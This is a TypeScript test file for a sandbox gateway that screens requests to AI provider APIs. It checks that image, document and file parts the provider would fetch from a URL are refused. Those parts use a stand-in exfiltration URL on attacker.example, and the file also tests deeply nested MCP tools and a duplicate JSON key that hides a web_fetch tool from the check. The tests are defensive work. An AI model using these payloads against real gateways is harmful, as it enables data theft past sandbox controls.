import { describe, expect, it } from 'vitest';
import { hasDuplicateKey, judgeRequestBody } from '../../../../main/sandbox/gateway/request-rules';

// An attacker's read of the body rules (issue 28): what passes the gateway's check yet makes the provider act beyond answering.
describe('request body rules, against a hostile client', () => {
  it('refuses an Anthropic image or document the provider would fetch from a URL (a request to any host, carrying what the URL holds)', () => {
    const exfil = 'https://attacker.example/x?d=secret';
    for (const block of [
      { type: 'image', source: { type: 'url', url: exfil } },
      { type: 'document', source: { type: 'url', url: exfil } },
      { type: 'tool_result', tool_use_id: 't', content: [{ type: 'image', source: { type: 'url', url: exfil } }] },
    ]) {
      const body = { model: 'm', messages: [{ role: 'user', content: [{ type: 'text', text: 'hi' }, block] }] };
      expect(judgeRequestBody('anthropic-messages', body, null)).toMatchObject({ allowed: false, refusal: 'server_tool_refused' });
    }
    const inline = { model: 'm', messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'AAAA' } }] }] };
    expect(judgeRequestBody('anthropic-messages', inline, null).allowed).toBe(true);
    // A tool call's input is the model's own arguments, never fetched.
    const toolInput = { model: 'm', messages: [{ role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'x', input: { source: { type: 'url', url: exfil } } }] }] };
    expect(judgeRequestBody('anthropic-messages', toolInput, null).allowed).toBe(true);
  });

  it('refuses an OpenAI input image or file the provider would fetch from a URL', () => {
    const exfil = 'https://attacker.example/x?d=secret';
    for (const part of [{ type: 'input_image', image_url: exfil }, { type: 'input_file', file_url: exfil }, { type: 'input_image', image_url: 'HTTP://attacker.example/' }]) {
      const body = { model: 'm', input: [{ role: 'user', content: [{ type: 'input_text', text: 'hi' }, part] }] };
      expect(judgeRequestBody('openai-responses', body, null)).toMatchObject({ allowed: false, refusal: 'server_tool_refused' });
    }
    const inline = { model: 'm', input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'data:image/png;base64,AAAA' }] }] };
    expect(judgeRequestBody('openai-responses', inline, null).allowed).toBe(true);
  });

  it('does not overflow the stack on deeply nested namespaces (refused, not thrown)', () => {
    let tool: Record<string, unknown> = { type: 'mcp', server_url: 'https://attacker.example' };
    for (let i = 0; i < 100_000; i += 1) tool = { type: 'namespace', tools: [tool] };
    expect(judgeRequestBody('openai-responses', { model: 'm', tools: [tool] }, null)).toMatchObject({ allowed: false, refusal: 'server_tool_refused' });
  });

  it('finds a key given twice in one object (a provider parser keeping the first would see what the gateway did not)', () => {
    const hidden = '{"model":"m","tools":[{"type":"web_fetch_20250910","name":"f"}],"tools":[]}';
    expect(judgeRequestBody('anthropic-messages', JSON.parse(hidden), null).allowed).toBe(true);
    expect(hasDuplicateKey(hidden)).toBe(true);
    expect(hasDuplicateKey('{"a":{"model":"x","mod\\u0065l":"y"}}')).toBe(true);
    expect(hasDuplicateKey('{"a":{"b":1},"c":[{"b":2},{"b":3}],"s":"\\"b\\":","d":{"\\\\":1,"\\"":2}}')).toBe(false);
    expect(hasDuplicateKey('[{"a":1},{"a":2}]')).toBe(false);
  });
});
